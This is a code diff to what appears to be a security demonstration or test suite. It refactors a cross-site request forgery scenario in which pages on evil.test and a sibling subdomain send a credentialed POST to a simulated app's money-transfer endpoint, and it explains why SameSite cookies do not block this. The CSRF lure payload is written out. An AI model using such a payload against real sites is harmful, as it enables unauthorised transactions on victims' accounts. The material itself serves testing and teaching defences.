@@ -4,6 +4,12 @@
 import { stopped, succeeded, type Attack } from '../attack.ts'
 import { APP, EVIL, SIBLING } from '../world/hosts.ts'
 
+const page: NonNullable<Attack['lure']> = (_, app, { email }) => `<!doctype html><script>
+fetch('${app}/api/transfer', {
+  method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ to: '${email}' }),
+})
+</script>`
+
 export const siblingFetch: Attack = {
   name: 'sibling-fetch',
   group: 'other sites',
@@ -11,24 +17,19 @@ export const siblingFetch: Attack = {
   what: 'A page on evil.test, and one on blog.app.test, send a POST with fetch: “send money to me”. They cannot read the answer, and need not.',
   why: 'SameSite asks for the site, and blog.app.test is the same site as app.test.',
   stops: 'A token in a header, or a server that refuses what Sec-Fetch-Site calls “same-site”.',
+  lure: page,
   control: 'session',
   succeedsOn: ['session', 'readable-cookie', 'httponly-cookie'],
   async run(scene) {
     await scene.signIn()
     const worked: string[] = []
-    for (const site of [EVIL, SIBLING]) {
+    for (const site of ['evil', 'sibling'] as const) {
+      const address = `${site === 'evil' ? EVIL : SIBLING}/post`
       scene.ledger.forget()
-      await scene.thief.publish({
-        address: `${site}/post`,
-        body: `<!doctype html><script>fetch('${APP}/api/transfer', { method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({ to: 'attacker' }) })</script>`,
-      })
-      const lure = await scene.browser.newPage()
-      await Promise.all([
-        lure.waitForResponse((answer) => answer.url() === `${APP}/api/transfer`),
-        lure.goto(`${site}/post`),
-      ])
+      await scene.thief.publish({ address, body: page(site, APP, scene.attacker) })
+      await scene.lure(address, 'POST', '/api/transfer')
       if (scene.ledger.find({ deed: 'transfer', by: scene.victim.email }).length > 0)
-        worked.push(new URL(site).hostname)
+        worked.push(new URL(address).hostname)
     }
     return worked.length > 0
       ? succeeded(`the server counted a transfer, asked from ${worked.join(' and ')}`)
